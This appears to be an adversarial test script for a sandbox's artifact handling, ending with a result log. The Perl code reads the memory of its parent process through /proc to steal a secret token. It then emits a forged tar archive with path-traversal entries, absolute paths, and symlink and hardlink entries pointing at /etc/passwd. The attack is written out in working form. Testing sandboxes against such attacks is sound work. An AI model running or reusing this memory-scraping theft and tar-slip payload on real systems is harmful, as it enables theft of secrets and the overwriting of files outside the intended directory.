# Attack: find the mark in the memory of the keeper and print a hand-over.
# Verdict: it lies about itself only: paths and sizes are judged.
perl -e '
use strict; my $mark;
for my $pid (getppid(), 2, 3) {
    open(my $maps, "<", "/proc/$pid/maps") or next; open(my $mem, "<", "/proc/$pid/mem") or next; binmode $mem;
    while (<$maps>) {
        next unless /^([0-9a-f]+)-([0-9a-f]+) rw/; my ($from, $to) = (hex $1, hex $2);
        sysseek($mem, $from, 0); my $data = ""; sysread($mem, $data, $to - $from) or next;
        if ($data =~ /(?<![0-9a-f])([0-9a-f]{32})(?![0-9a-f])/) { $mark = $1; last; }
    }
    last if $mark;
}
exit 7 unless $mark;
sub entry { my ($name, $text, $type) = @_; my $h = pack("a100 a8 a8 a8 a12 a12 a8 a1 a100 a8 a247", $name, "0000644", "0", "0", sprintf("%011o", length $text), "0", "        ", $type, "/etc/passwd", "ustar  ", ""); return $h . $text . ("\0" x (-length($text) % 512)); }
$| = 1; binmode STDOUT;
print "$mark 0 -1 files\n", entry("../../etc/x", "evil", "0"), entry("/etc/x", "evil", "0"), entry("work/link", "", "2"), entry("work/hard", "", "1"), entry("work/ok", "fine\n", "0"), entry("work/ok", "again\n", "0"), entry("caisson/display/../../y", "evil", "0"), "\0" x 1024;
sleep 60;
'
/* ---
artifacts: *
status: completed
result: null
exitCode: 0
artifact ok: fine
truncated: true
maxWallMs: 20000
*/
